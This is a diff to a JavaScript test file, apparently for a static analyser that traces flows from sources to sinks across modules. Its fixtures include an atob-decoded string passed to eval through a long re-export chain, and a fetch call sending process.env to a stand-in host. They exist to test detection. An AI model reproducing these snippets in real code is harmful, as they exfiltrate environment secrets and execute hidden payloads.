@@ -128,18 +128,31 @@ describe('more to link than is followed', { timeout: soon }, () => {
 
   test('is nothing that a long chain, many parameters or many re-exports come to', () => {
     const budget = linkBudget()
-    const found = linkFlows(chain(40), resolve, undefined, budget)
+    const found = linkFlows(chain(40), resolve, 'own', undefined, budget)
     expect(found.map(({ flow }) => `${flow.source} ${flow.sink}`)).toEqual(['decoded evaluate'])
     const again = new Map([...Array(30).keys()].map((at) => [`${at}.js`, codeOf(`export * from './${at + 1}.js'`)]))
     again.set('30.js', codeOf('export const open = (text) => atob(text)'))
     again.set('a.js', codeOf(`import { open } from './0.js'\neval(open(globalThis.x))`))
-    expect(linkFlows(again, resolve, undefined, budget)).toHaveLength(1)
+    expect(linkFlows(again, resolve, 'own', undefined, budget)).toHaveLength(1)
+    expect(budget.left).toBeGreaterThan(0)
+  })
+
+  test('is nothing that calls which come first can hide', () => {
+    const files = new Map([
+      ['a.js', codeOf('exports.id = (x) => x\nexports.environment = () => process.env')],
+      ['z.js', codeOf("fetch('https://a.example.test/' + JSON.stringify(require('./a.js').environment()))")],
+    ])
+    const decoys = codeOf(`const { id } = require('./a.js')\n${times(5000, (at) => `id(x${at})`)}`)
+    for (let at = 0; at < 5; at++) files.set(`b${at}.js`, decoys)
+    const budget = linkBudget()
+    const found = linkFlows(files, resolve, 'own', undefined, budget)
+    expect(found.map(({ flow }) => `${flow.source} ${flow.sink}`)).toEqual(['environment network'])
     expect(budget.left).toBeGreaterThan(0)
   })
 
   test('is told, and ends', () => {
     const budget = { left: 1000 }
-    linkFlows(chain(400), resolve, undefined, budget)
+    linkFlows(chain(400), resolve, 'own', undefined, budget)
     expect(budget.left).toBeLessThan(0)
   })
 
